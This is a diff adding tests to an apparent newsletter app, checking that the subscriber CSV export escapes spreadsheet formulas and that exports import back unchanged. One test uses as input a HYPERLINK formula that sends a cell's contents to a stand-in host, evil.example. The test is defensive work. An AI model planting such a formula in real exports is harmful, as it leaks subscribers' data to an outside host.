@@ -392,6 +392,38 @@ def test_export_writes_every_subscriber_as_csv(tmp_path, weekly):
     assert [row["email"] for row in csv.DictReader(out.open())] == ["ann@example.com"]
 
 
+def test_export_keeps_spreadsheets_from_running_what_subscribers_typed(client, tmp_path, weekly):
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    client.post(
+        "/subscribe/", {"user_email": "eve@example.com", "name": formula, "newsletter": "weekly"}
+    )
+    subscribe(email="-dash@example.com", name="+1 Dash", newsletter=weekly, source="admin")
+    out = tmp_path / "out.csv"
+    call_command("export_subscribers", "--newsletter=weekly", f"--output={out}")
+
+    rows = list(csv.DictReader(out.open()))
+    assert [(row["email"], row["name"]) for row in rows] == [
+        ("eve@example.com", "'" + formula),
+        ("'-dash@example.com", "'+1 Dash"),
+    ]
+    assert not any(value.startswith(tuple("=+-@")) for row in rows for value in row.values())
+
+
+def test_an_exported_file_imports_back_as_it_was(tmp_path, weekly):
+    subscribe(email="-dash@example.com", name="=Dash", newsletter=weekly, source="admin")
+    subscribe(email="ann@example.com", name="Ann", newsletter=weekly, source="admin")
+    out = tmp_path / "out.csv"
+    call_command("export_subscribers", "--newsletter=weekly", f"--output={out}")
+    make_newsletter(slug="copy")
+    call_command("import_subscribers", str(out), "--newsletter=copy", stdout=StringIO())
+
+    copied = Subscription.objects.filter(newsletter__slug="copy").order_by("profile__email")
+    assert [(s.profile.email, s.profile.name) for s in copied] == [
+        ("-dash@example.com", "=Dash"),
+        ("ann@example.com", "Ann"),
+    ]
+
+
 def test_the_api_imports_a_small_csv(client, weekly):
     token = api_token_create(name="t")[1]
     body = "email,name\nann@example.com,Ann\nbroken,No\n"
